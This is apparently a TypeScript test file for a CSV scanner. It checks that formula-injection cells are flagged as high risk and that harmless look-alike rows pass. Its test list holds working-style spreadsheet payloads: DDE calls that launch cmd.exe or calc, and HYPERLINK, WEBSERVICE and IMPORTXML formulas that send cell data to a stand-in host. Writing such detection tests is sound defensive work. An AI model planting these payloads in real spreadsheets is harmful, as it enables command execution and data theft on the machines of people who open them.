import { expect, test } from 'vitest';
import { scanBytes, summary } from '../fixtures/scan';

const scan = async (text: string): Promise<string[]> => summary(await scanBytes('a.csv', Buffer.from(text)));

test.each([
  "=cmd|' /C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@SUM(1;1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=cmd|calc!A0',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  '=DDE("cmd";"/C calc";"x")',
  '=HYPERLINK("http://x/?d="&A1)',
  '+HYPERLINK("http://x")',
  '"=HYPERLINK(""http://x/?d=""&A1)"',
  '"=1+\nWEBSERVICE(""http://x/""&A1)"',
  '"=IF(1,WEBSERVICE(""http://x""),0)"',
  '=A1&IMPORTXML(CONCAT("http://x",A1),"//a")',
  '-IMAGE(A1)',
])('a cell that reaches out is HIGH: %j', async (cell) => {
  expect(await scan(`a,b\n1,${cell},2\n`)).toEqual(['DAT-005 HIGH']);
  expect(await scan(`a;b\n${cell};2\n`)).toEqual(['DAT-005 HIGH']);
});

test.each([
  '1,-5,An image (left) of a cat',
  'Bob,+49 30 call (evenings)',
  'a@b.c,- call (me)',
  '- image(s) missing,-1,image (3)',
  '-1, call("me")',
  "'=cmd|' /C calc'!A0",
  '=SUM(A1:B2),+4,-1,@home',
  '-a | b,=1|2,- x|y! yes',
  'note,"-5, image (left)",-3',
])('an ordinary row is silent: %j', async (row) => {
  expect(await scan(`a,b\n${row}\n`)).toEqual([]);
});
